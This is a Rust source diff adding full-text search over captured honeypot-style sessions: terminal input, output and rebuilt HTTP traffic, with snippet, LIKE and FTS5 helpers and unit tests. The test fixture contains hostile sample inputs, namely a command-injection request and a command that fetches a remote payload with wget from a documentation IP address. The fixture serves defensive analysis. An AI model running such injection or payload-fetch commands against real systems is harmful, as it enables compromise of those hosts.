@@ -0,0 +1,211 @@
+//! Full-text search over the captured sessions.
+//!
+//! When the artifacts of a session are saved, the text analysts look for is
+//! extracted into one document per [`SearchField`]: what was typed on the
+//! terminal, what it printed, and the HTTP requests and responses rebuilt from
+//! the streams. Backends index these documents, SQLite with an FTS5 table,
+//! PostgreSQL and the file backend with plain tables and files, and answer
+//! [`Storage::search`] with the sessions containing the query, most recent first,
+//! e.g. every session in which `wget http://` was typed or an address was requested.
+//!
+//! Queries match as case-insensitive substrings, whatever the backend. Streams
+//! offloaded to an object store are not indexed.
+//!
+//! [`Storage::search`]: crate::storage::storage_trait::Storage::search
+
+use uuid::Uuid;
+
+use crate::data_capture::{http_capture, CaptureArtifacts, HttpExchange};
+use crate::storage::types::{SearchField, SearchHit};
+
+/// Largest document indexed per field, the rest of the text not being searchable
+pub const MAX_DOCUMENT_LEN: usize = 1024 * 1024;
+/// Hits of a search when the query sets no limit
+pub const DEFAULT_LIMIT: usize = 100;
+/// Most hits returned by a search
+pub const MAX_LIMIT: usize = 1000;
+/// Bytes of context kept on each side of the terms in a snippet
+const SNIPPET_CONTEXT: usize = 60;
+
+/// Searchable text of the artifacts, one document per non-empty field
+pub fn documents(artifacts: &CaptureArtifacts) -> Vec<(SearchField, String)> {
+    let http: Vec<String> = http_capture::from_artifacts(artifacts)
+        .iter()
+        .map(exchange_text)
+        .collect();
+    [
+        (SearchField::Stdin, artifacts.stdio_stdin.clone()),
+        (SearchField::Stdout, artifacts.stdio_stdout.clone()),
+        (SearchField::Http, http.join("\n")),
+    ]
+    .into_iter()
+    .filter(|(_, text)| !text.is_empty())
+    .map(|(field, text)| (field, clean(text)))
+    .collect()
+}
+
+/// Request and response as they were sent, bodies decoded
+fn exchange_text(exchange: &HttpExchange) -> String {
+    let request = &exchange.request;
+    let mut text = format!("{} {} {}\n", request.method, request.path, request.version);
+    for (name, value) in &request.headers {
+        text.push_str(&format!("{}: {}\n", name, value));
+    }
+    text.push('\n');
+    text.push_str(&request.body);
+    if let Some(response) = &exchange.response {
+        text.push_str(&format!(
+            "\n{} {} {}\n",
+            response.version, response.status, response.reason
+        ));
+        for (name, value) in &response.headers {
+            text.push_str(&format!("{}: {}\n", name, value));
+        }
+        text.push('\n');
+        text.push_str(&response.body);
+    }
+    text
+}
+
+/// Cuts `text` to [`MAX_DOCUMENT_LEN`] and drops the NUL characters, which
+/// PostgreSQL text columns refuse
+fn clean(mut text: String) -> String {
+    if text.len() > MAX_DOCUMENT_LEN {
+        let mut end = MAX_DOCUMENT_LEN;
+        while !text.is_char_boundary(end) {
+            end -= 1;
+        }
+        text.truncate(end);
+    }
+    if text.contains('\0') {
+        text = text.replace('\0', " ");
+    }
+    text
+}
+
+/// Whether `text` contains `query`, ignoring ASCII case
+pub fn contains(text: &str, query: &str) -> bool {
+    text.to_ascii_lowercase()
+        .contains(&query.to_ascii_lowercase())
+}
+
+/// Hits of the `documents` of a session containing `query`
+pub fn matching(
+    session_id: Uuid,
+    documents: &[(SearchField, String)],
+    query: &str,
+) -> Vec<SearchHit> {
+    documents
+        .iter()
+        .filter(|(_, text)| contains(text, query))
+        .map(|(field, text)| SearchHit {
+            session_id,
+            field: *field,
+            snippet: snippet(text, query),
+        })
+        .collect()
+}
+
+/// First occurrence of `query` in `text` with some context, control characters
+/// replaced by spaces. Starts at the beginning of `text` when `query` is absent.
+pub fn snippet(text: &str, query: &str) -> String {
+    let at = text
+        .to_ascii_lowercase()
+        .find(&query.to_ascii_lowercase())
+        .unwrap_or(0);
+    let mut start = at.saturating_sub(SNIPPET_CONTEXT);
+    while !text.is_char_boundary(start) {
+        start -= 1;
+    }
+    let mut end = (at + query.len() + SNIPPET_CONTEXT).min(text.len());
+    while !text.is_char_boundary(end) {
+        end += 1;
+    }
+    let mut snippet = String::new();
+    if start > 0 {
+        snippet.push('…');
+    }
+    snippet.extend(
+        text[start..end]
+            .chars()
+            .map(|c| if c.is_control() { ' ' } else { c }),
+    );
+    if end < text.len() {
+        snippet.push('…');
+    }
+    snippet
+}
+
+/// `LIKE` pattern matching `query` anywhere, escaped with `\`
+pub fn like_pattern(query: &str) -> String {
+    let mut pattern = String::from("%");
+    for c in query.chars() {
+        if matches!(c, '\\' | '%' | '_') {
+            pattern.push('\\');
+        }
+        pattern.push(c);
+    }
+    pattern.push('%');
+    pattern
+}
+
+/// FTS5 phrase of the words of `query`, `None` when it has none, e.g. `://`
+pub fn fts_phrase(query: &str) -> Option<String> {
+    query
+        .chars()
+        .any(char::is_alphanumeric)
+        .then(|| format!("\"{}\"", query.replace('"', "\"\"")))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use chrono::Duration;
+
+    fn artifacts() -> CaptureArtifacts {
+        CaptureArtifacts {
+            session_id: Uuid::new_v4(),
+            tcp_client_to_container: b"GET /shell?cd+/tmp;wget+http://198.51.100.9/x HTTP/1.1\r\nHost: 203.0.113.1\r\n\r\n".to_vec(),
+            tcp_container_to_client: b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n".to_vec(),
+            stdio_stdin: "uname -a\nWGET http://198.51.100.9/bins.sh\n".to_string(),
+            duration: Duration::seconds(1),
+            ..Default::default()
+        }
+    }
+
+    #[test]
+    fn commands_and_http_traffic_are_searchable() {
+        let artifacts = artifacts();
+        let documents = documents(&artifacts);
+        let fields: Vec<SearchField> = documents.iter().map(|(field, _)| *field).collect();
+        assert_eq!(fields, [SearchField::Stdin, SearchField::Http]);
+        assert!(documents[1].1.contains("Host: 203.0.113.1\n"));
+        assert!(documents[1].1.contains("HTTP/1.1 404 Not Found\n"));
+
+        let hits = matching(artifacts.session_id, &documents, "wget http://");
+        assert_eq!(hits.len(), 1);
+        assert_eq!(hits[0].field, SearchField::Stdin);
+        assert_eq!(
+            hits[0].snippet,
+            "uname -a WGET http://198.51.100.9/bins.sh "
+        );
+        let hits = matching(artifacts.session_id, &documents, "198.51.100.9");
+        assert_eq!(hits.len(), 2);
+        assert!(matching(artifacts.session_id, &documents, "curl").is_empty());
+    }
+
+    #[test]
+    fn snippets_and_patterns() {
+        let text = format!("{}needle{}", "a".repeat(100), "é".repeat(100));
+        let snippet = snippet(&text, "NEEDLE");
+        assert!(snippet.starts_with('…') && snippet.ends_with('…'));
+        assert_eq!(snippet.trim_matches('…').len(), 60 + 6 + 60);
+
+        assert_eq!(like_pattern("100%_a\\b"), "%100\\%\\_a\\\\b%");
+        assert_eq!(
+            fts_phrase("say \"hi\""),
+            Some("\"say \"\"hi\"\"\"".to_string())
+        );
+        assert_eq!(fts_phrase("://"), None);
+    }
+}